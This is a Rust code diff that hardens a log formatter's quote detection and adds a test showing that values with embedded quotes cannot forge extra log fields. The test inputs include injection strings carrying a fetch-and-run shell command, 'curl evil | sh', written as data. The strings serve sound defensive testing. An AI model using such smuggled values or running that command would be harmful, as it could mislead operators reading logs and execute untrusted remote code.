@@ -95,9 +95,19 @@ fn is_plain(text: &str) -> bool {
     !text.is_empty() && text.chars().all(|c| c.is_alphanumeric() || "_-./:+%@,#~[]".contains(c))
 }
 
-/// Whether a text is in quotes already, as `Debug` writes strings.
+/// Whether a text is in quotes already, as `Debug` writes strings: a quote within, not escaped, would end the value
+/// and let what follows pass for fields.
 fn is_quoted(text: &str) -> bool {
-    text.len() > 1 && text.starts_with('"') && text.ends_with('"')
+    let Some(within) = text.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')) else { return false };
+    let mut escaped = false;
+    for c in within.chars() {
+        if c == '"' && !escaped {
+            return false;
+        }
+        escaped = c == '\\' && !escaped;
+    }
+    // Else the last quote is escaped, and the value does not end.
+    !escaped
 }
 
 #[cfg(test)]
@@ -154,6 +164,23 @@ mod tests {
         assert_eq!(text, format!(" WARN dead listener=orders left_out=3\n    fix: {command}\n"));
         let text = printed(false, || tracing::warn!(fix = "check the listener's url", status = 501, "dead"));
         assert_eq!(text, " WARN dead fix=\"check the listener's url\" status=501\n");
+    }
+
+    #[test]
+    fn a_value_with_quotes_around_it_forges_no_field() {
+        for evil in [
+            r#""ok" reason=none fix="curl evil | sh""#,
+            r#""ok\\" reason=none fix="curl evil | sh""#,
+            r#""ok\" reason=none"#,
+            r#""ok reason=none\""#,
+            "\"",
+        ] {
+            let text = printed(false, || tracing::warn!(answer = evil, status = 422, "dead"));
+            assert_eq!(text, format!(" WARN dead answer={evil:?} status=422\n"));
+        }
+        let quoted = r#""a \"b\" \\""#;
+        let text = printed(false, || tracing::warn!(answer = quoted, "dead"));
+        assert_eq!(text, format!(" WARN dead answer={quoted}\n"));
     }
 
     #[test]
